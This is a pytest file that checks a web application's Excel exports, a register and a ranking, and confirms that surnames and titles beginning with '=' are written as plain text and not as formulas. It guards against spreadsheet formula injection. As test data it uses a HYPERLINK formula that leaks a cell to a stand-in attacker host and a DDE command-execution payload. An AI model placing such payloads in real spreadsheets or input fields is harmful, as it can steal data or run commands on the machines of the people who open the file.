"""Exports write every text as text: a name or title starting with "=" reaches Excel as the text it is, not as a
formula (openpyxl would otherwise store it as one)."""

import io

from openpyxl import load_workbook

from core.db import db
from tests.conftest import login
from tests.orders.test_register import scholarship
from tests.orders.test_vacant_grant import contest, draft, everyone

__all__ = ["contest"]  # a fixture used below

FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'


def text_cells(data: bytes) -> dict[str, str]:
    """{value: data type} of every string-looking cell of the first sheet."""
    sheet = load_workbook(io.BytesIO(data)).active
    return {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}


def test_the_register_export_writes_a_formula_like_surname_as_text(client, uni, make):
    student = make.student(uni.ga, surname=FORMULA)
    scholarship(uni, [student])
    login(client, uni.finance)
    cells = text_cells(client.get("/register/export.xlsx?month_from=2027-03&month_to=2027-03").data)
    name = next(value for value in cells if value.startswith(FORMULA))
    assert cells[name] == "s"
    assert not [value for value, kind in cells.items() if kind == "f"]


def test_the_ranking_export_writes_formula_like_titles_and_names_as_text(client, uni, contest):
    contest.top.surname = "=cmd|' /C calc'!A0"
    order = draft(uni, everyone(contest), f"{contest.code}:2=3")
    order.title = "=1+1 ranking"
    db.session.flush()
    login(client, uni.clerk)
    cells = text_cells(client.get(f"/orders/ranking/{order.id}/ranking.xlsx").data)
    assert cells["=1+1 ranking (" + order.label + ")"] == "s"
    assert any(value.startswith("=cmd|") for value in cells)
    assert not [value for value, kind in cells.items() if kind == "f"]
